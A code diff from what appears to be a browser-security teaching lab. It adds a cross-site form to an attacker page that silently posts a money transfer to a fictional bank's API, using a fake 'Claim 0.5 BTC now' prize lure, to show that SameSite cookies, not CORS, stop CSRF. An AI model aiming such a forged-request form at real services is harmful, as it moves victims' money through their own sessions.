@@ -52,8 +52,10 @@ pub fn AttackPage(
         query.remove("run");
         page::replace_query(&query);
     });
+    let csrf = (home == Position::CrossSite).then(|| view! { <CsrfForm/> });
     view! {
         <Pitch home/>
+        {csrf}
         <section class="panel attack" aria-labelledby="attack-title">
             <h2 id="attack-title">"The script on this page"</h2>
             <AttackOptions home scenario/>
@@ -105,6 +107,26 @@ fn Pitch(home: Position) -> impl IntoView {
             <h1>{title}</h1>
             <p>{text}</p>
         </header>
+    }
+}
+
+/// The classic CSRF: a real cross-site form that posts a transfer to FinTrack's API as a
+/// top-level navigation. CORS has no say here (the form never reads the answer): only the
+/// session cookie's `SameSite` decides whether the money moves, which the console's ledger shows.
+#[component]
+fn CsrfForm() -> impl IntoView {
+    let action = page::lab_url(corslab_lab::hosts::API, &format!("/me/transfer?run={}", run::new_run_id()));
+    view! {
+        <form class="panel csrf" method="post" action=action aria-labelledby="csrf-title">
+            <h2 id="csrf-title">"Claim your prize"</h2>
+            <p class="muted">
+                "This button submits a plain HTML form to FinTrack's API: a cross-site POST the browser sends as a navigation. CORS does not apply; the cookie's SameSite attribute alone decides whether the transfer carries Alex's session. Check the ledger in the console afterwards."
+            </p>
+            <input type="hidden" name="to" value="LAB-6666-0001"/>
+            <input type="hidden" name="amount" value="99.00"/>
+            <input type="hidden" name="memo" value="prize fee"/>
+            <button type="submit" class="run">"Claim 0.5 BTC now"</button>
+        </form>
     }
 }
 
